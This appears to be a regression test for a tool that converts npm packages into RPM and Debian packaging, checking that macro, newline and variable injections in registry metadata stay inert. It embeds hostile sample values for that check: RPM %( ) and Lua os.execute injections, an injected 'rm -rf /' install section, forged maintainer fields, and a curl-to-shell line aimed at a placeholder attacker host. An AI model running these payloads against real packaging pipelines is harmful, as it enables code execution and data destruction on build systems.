# %(...) and %{lua:...} in registry text must never run; newlines must
# never start a tag, a section or a field; ${...} must not substitute.
@BEFORE rm -f /tmp/ferry-pwned-shell /tmp/ferry-pwned-lua
@ARGS import npm:h-macro -t fedora -t debian -o $OUT --registry $HREG
@SH $TOOLS/specparse $OUT/nodejs-h-macro/nodejs-h-macro.spec > parsed
@SH test ! -e /tmp/ferry-pwned-shell && test ! -e /tmp/ferry-pwned-lua
@SH grep -qxF 'License: MIT' parsed
@SH grep -qF '%description: Pads %(touch /tmp/ferry-pwned-shell) strings %{lua: os.execute(' parsed
@SH grep -qF '\n %install\nrm -rf /\n${shlibs:Depends} done %%{?x}' parsed
@SH grep -qxF 'URL: https://example.org/%{lua:x}' parsed
@SH rpmspec -P $OUT/nodejs-h-macro/nodejs-h-macro.spec >/dev/null && test ! -e /tmp/ferry-pwned-lua
@SH test "$(grep -c '^Package:' $OUT/node-h-macro/debian/control)" = 1
@SH test "$(grep -c '^Maintainer:' $OUT/node-h-macro/debian/control)" = 1
@SH ! grep -n '^[^ #].*\${shlibs:Depends} done' $OUT/node-h-macro/debian/control
@SH grep -qF ' $ {shlibs:Depends} done' $OUT/node-h-macro/debian/control
@SH grep -qF 'Copyright: Mallory Maintainer: evil <e@vil>' $OUT/node-h-macro/debian/copyright
@FILE-HAS nodejs-h-macro/nodejs-h-macro.spec #   postinstall: curl -s http://evil.invalid/x.sh | sh %%(id)
